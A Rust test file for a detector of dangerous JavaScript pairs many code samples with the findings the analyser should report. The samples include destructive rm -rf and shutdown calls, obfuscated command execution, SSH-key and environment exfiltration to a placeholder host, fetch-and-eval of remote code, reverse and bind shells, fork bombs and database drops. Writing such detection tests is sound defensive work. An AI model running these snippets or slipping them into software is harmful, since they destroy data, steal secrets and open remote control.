use super::recorder::{check, printed, said, silent};
use crate::lang::Lang;

const LANG: Lang = Lang::JavaScript;

#[test]
fn calls_that_run_programs_are_found() {
    check(
        LANG,
        &[
            (
                r#"require("child_process").execSync("rm -rf \"$HOME\"",{stdio:"inherit"})"#,
                "shell: rm -rf \"$HOME\"",
            ),
            (
                r#"require("child_process").spawnSync("shutdown",["-h","now"],{stdio:"inherit"})"#,
                "run shutdown -h now",
            ),
            ("const {exec} = require('child_process'); exec('halt')", "shell: halt"),
            ("const {exec: run} = require('node:child_process'); run('halt')", "shell: halt"),
            ("const cp = require('child_process'); cp.spawn('rm', ['-rf','/x'])", "run rm -rf /x"),
            ("import {execSync} from 'child_process'; execSync('halt')", "shell: halt"),
            ("import * as cp from 'node:child_process'; cp.exec('halt')", "shell: halt"),
            ("import cp from 'child_process'\ncp.exec('halt')", "shell: halt"),
            ("import('child_process').then(m => m.execSync('halt'))", "shell: halt"),
            ("(await import('child_process')).execSync('halt')", "shell: halt"),
            ("const cp = await import('child_process'); cp.exec('halt')", "shell: halt"),
            ("process.mainModule.require('child_process').execSync('halt')", "shell: halt"),
            ("global.process.mainModule.constructor._load('child_process').execSync('halt')", "shell: halt"),
            ("new Deno.Command('rm', {args: ['-rf','/x']}).outputSync()", "run rm -rf /x"),
            ("Deno.run({cmd: ['rm','-rf','/x']})", "run rm -rf /x"),
            ("Bun.spawn(['rm','-rf','/x'])", "run rm -rf /x"),
            ("await Bun.$`rm -rf /x`", "shell: rm -rf /x"),
            ("require('child_process').spawn('rm -rf /x', {shell: true})", "shell: rm -rf /x"),
            ("function r(c){require('child_process').execSync(c)} r('halt')", "shell: halt"),
            ("const r = c => require('child_process').execSync(c); r('halt')", "shell: halt"),
            ("let x='halt'; require('child_process').exec(`${x} -p`)", "shell: halt -p"),
            ("setTimeout(() => require('child_process').exec('halt'), 10)", "shell: halt"),
            ("Java.type('java.lang.Runtime').getRuntime().exec('halt')", "shell: halt"),
        ],
    );
}

#[test]
fn disguised_texts_are_resolved() {
    check(
        LANG,
        &[
            (
                "require('child_process').execSync(String.fromCharCode(104,97,108,116))",
                "shell: halt <decoded>",
            ),
            (
                "require('child_process').execSync(String.fromCharCode(...[104,97,108,116]))",
                "shell: halt <decoded>",
            ),
            (
                "require('child_process').execSync(String.fromCharCode.apply(null,[104,97,108,116]))",
                "shell: halt <decoded>",
            ),
            (
                "require('child_process').exec(Buffer.from('aGFsdA==','base64').toString())",
                "shell: halt <decoded>",
            ),
            (
                "require('child_process').exec(Buffer.from('68616c74','hex').toString('utf8'))",
                "shell: halt <decoded>",
            ),
            ("require('child_process').exec(atob('aGFsdA=='))", "shell: halt <decoded>"),
            ("require('child_process').exec('tlah'.split('').reverse().join(''))", "shell: halt"),
            ("require('child_process').exec(['ha','lt'].join(''))", "shell: halt"),
            (
                "require('child_process').exec([104,97,108,116].map(c=>String.fromCharCode(c)).join(''))",
                "shell: halt <decoded>",
            ),
            (
                "require('child_process').exec([105,96,109,117].map(c=>String.fromCharCode(c^1)).join(''))",
                "shell: halt <decoded>",
            ),
            ("require('child_' + 'process')['ex' + 'ecSync']('halt')", "shell: halt"),
            (r"require('\x63hild_process').exec('\u0068alt')", "shell: halt"),
            ("globalThis['ev'+'al'](\"require('child_process').exec('halt')\")", "shell: halt"),
            ("new Function(\"require('child_process').exec('halt')\")()", "shell: halt"),
            (
                "Function('return process')().mainModule.require('child_process').execSync('halt')",
                "shell: halt",
            ),
            (
                "[].constructor.constructor('return process')().mainModule.require('child_process').exec('halt')",
                "shell: halt",
            ),
            ("require('vm').runInThisContext(\"require('child_process').exec('halt')\")", "shell: halt"),
            (
                "const s=[104,97,108,116];let o='';for(let i=0;i<s.length;i++)o+=String.fromCharCode(s[i]);require('child_process').exec(o)",
                "shell: halt <decoded>",
            ),
            ("globalThis[process.argv[2]](1)", "gap Code Runtime globalThis[]"),
            ("eval(decodeURIComponent('require(%22child_process%22).exec(%22halt%22)'))", "shell: halt"),
        ],
    );
}

#[test]
fn files_and_hosts_are_found() {
    check(
        LANG,
        &[
            ("require('fs').rmSync('/', {recursive:true, force:true})", "Delete / [recursive] [forced]"),
            ("require('fs').unlinkSync('/etc/x')", "Delete /etc/x"),
            ("const fs=require('fs/promises'); await fs.rm('/x',{recursive:true})", "Delete /x [recursive]"),
            (
                "console.log(require('fs').readFileSync(process.env.HOME+'/.ssh/id_rsa','utf8'))",
                "Read /home/ada/.ssh/id_rsa",
            ),
            ("require('fs').writeFileSync('/etc/x','p')", "Write /etc/x = p [emptying]"),
            (
                "require('fs').appendFileSync(require('os').homedir()+'/.bashrc','p')",
                "Write /home/ada/.bashrc = p [appending]",
            ),
            ("require('fs').chmodSync('/etc/x', 0o777)", "ChangeMode /etc/x [world-writable] [executable]"),
            (
                "require('http').get('http://h/x', res => res.pipe(require('fs').createWriteStream('/etc/x')))",
                "Write /etc/x = http://h/x [emptying] <network>",
            ),
            (
                "require('https').get('https://h/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
                "javascript: on <network>",
            ),
            ("fetch('http://h/x').then(r=>r.text()).then(eval)", "javascript: text <network>"),
            ("fetch('http://h/x').then(r=>r.text()).then(t=>eval(t))", "javascript: text <network>"),
            ("eval(await (await fetch('http://h/x')).text())", "javascript: text <network>"),
            ("console.log(process.env)", "Read environment"),
            ("console.log(JSON.stringify(process.env))", "Read environment"),
            (
                "fetch('http://h/',{method:'POST',body:require('fs').readFileSync('/home/u/.ssh/id')})",
                "Send http://h/ [uploading] <secret>",
            ),
            (
                "fetch('http://h/',{method:'POST',body:JSON.stringify(process.env)})",
                "Send http://h/ [uploading] <secret>",
            ),
            ("process.kill(-1, 'SIGKILL')", "Kill All [with SIGKILL]"),
            ("require('/tmp/x.js')", "script javascript /tmp/x.js"),
            ("require('./build')", "script javascript ./build"),
        ],
    );
}

#[test]
fn shells_wired_to_sockets_and_fork_bombs_are_found() {
    let control = "Execute shell  [interactive] [remotely controlled] <network>";
    check(
        LANG,
        &[
            (
                "sh = require('child_process').spawn('/bin/sh');\nrequire('net').createServer(function (client) {\n client.pipe(sh.stdin);\n sh.stdout.pipe(client);\n}).listen(12345)",
                control,
            ),
            (
                "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();client.connect(1,'h',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});return /a/;})();",
                control,
            ),
            (
                "var p=new java.lang.ProcessBuilder('/bin/sh','-i').redirectErrorStream(true).start(); var s=new java.net.Socket('h',1);",
                control,
            ),
            ("while(1)require('child_process').fork(__filename)", "Exhaust  [irreversible]"),
            ("setInterval(()=>require('child_process').fork(__filename),1)", "Exhaust  [irreversible]"),
        ],
    );
}

#[test]
fn collections_that_are_dropped_are_found() {
    check(
        LANG,
        &[
            ("db.dropDatabase()", "Destroy database  [irreversible]"),
            ("db.users.drop()", "Destroy table users [irreversible]"),
            ("db.getSiblingDB('prod').dropDatabase()", "Destroy database  [irreversible]"),
            ("db.users.deleteMany({})", "Destroy rows users [irreversible] [without a condition]"),
            ("db.getCollectionNames().forEach(c => db[c].drop())", "Destroy table db[] [irreversible]"),
            ("db.runCommand({ dropDatabase: 1 })", "Destroy database  [irreversible]"),
            ("db.runCommand({ drop: 'users' })", "Destroy table users [irreversible]"),
            ("db.shutdownServer()", "Service database mongo [stopped]"),
            ("db.getSiblingDB('admin').shutdownServer()", "Service database mongo [stopped]"),
            ("db.adminCommand({ shutdown: 1 })", "Service database mongo [stopped]"),
            ("db.users.remove({})", "Destroy rows users [irreversible] [without a condition]"),
        ],
    );
    silent(LANG, &["db.runCommand({ ping: 1 })", "db[c].find()"]);
    silent(LANG, &["db.users.find({})", "db.users.deleteMany({age: 3})", "db.users.countDocuments()"]);
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        LANG,
        &[
            "process.version",
            "console.log(1+1)",
            "console.log(\"require('child_process').exec('rm -rf /')\")",
            "// require('child_process').execSync('x')\n1",
            "/x/.exec('abc')",
            "const m = /a(b)/.exec(s); console.log(m[1])",
            "let re = new RegExp('x'); re.exec('y')",
            "[1,2,3].map(x => x * 2).forEach(x => console.log(x))",
            "const {join} = require('path'); console.log(join('a','b'))",
            "console.log(Object.keys({a: 1, b: 2}))",
            "console.log(process.env.HOME)",
            "console.log(process.argv.slice(2))",
            "const a = {exec: 1}; console.log(a.exec)",
            "async function f(){ return 1 } f().then(console.log)",
            "const x = cond ? 1 : 2; switch(x){case 1: break}",
            "console.log(require('lodash').VERSION)",
            "for (const k of Object.keys(o)) console.log(k)",
        ],
    );
    check(LANG, &[("console.log(require('./package.json').version)", "Read ./package.json")]);
    assert_eq!(printed(LANG, "console.log(atob('bHM='))"), "ls\n");
}

#[test]
fn modules_that_come_later_and_loops_over_lists() {
    check(
        LANG,
        &[
            (r#"import("node:fs/promises").then(f=>f.rm("/x",{recursive:true}))"#, "Delete /x [recursive]"),
            (r#"require("execa").commandSync("rm -rf /x")"#, "shell: rm -rf /x"),
            (
                r#"for (const d of ["/x","/y"]) require("child_process").execSync("rm -rf " + d)"#,
                "shell: rm -rf /y",
            ),
        ],
    );
    silent(LANG, &[r#"for (const n of ["a","b"]) { const m = n.length }"#]);
}

#[test]
fn either_arm_and_every_letter_is_followed() {
    check(
        LANG,
        &[
            ("require('child_process').execSync(x ? 'reboot'.trim() : 'halt')", "shell: reboot"),
            ("require('child_process').execSync(x ? 'reboot'.trim() : 'halt')", "shell: halt"),
            ("require('child_process').execSync([...'ha' + 'lt'].join(''))", "shell: halt"),
            (
                "let a = ''; for (const c of 'di') a = c + a; require('child_process').execSync(a)",
                "shell: id",
            ),
            (
                "let a = ''; for (const c of b ? 'halt' : ['reboot']) a = a + c; require('child_process').exec(a)",
                "shell: reboot",
            ),
        ],
    );
}

#[test]
fn what_counts_or_is_taken_apart_is_no_known_text() {
    for code in [
        "const [c] = 'halt'; require('child_process').execSync(c)",
        "let c = b ? 'halt' : 'x'; c++; require('child_process').execSync('' + c)",
        "let c = 'halt'; ++c; require('child_process').execSync('' + c)",
        "require('child_process').execSync('halt' + {}.toString())",
    ] {
        let said = said(LANG, code);
        assert!(!said.iter().any(|line| line == "shell: halt"), "{code}: {said:#?}");
    }
}
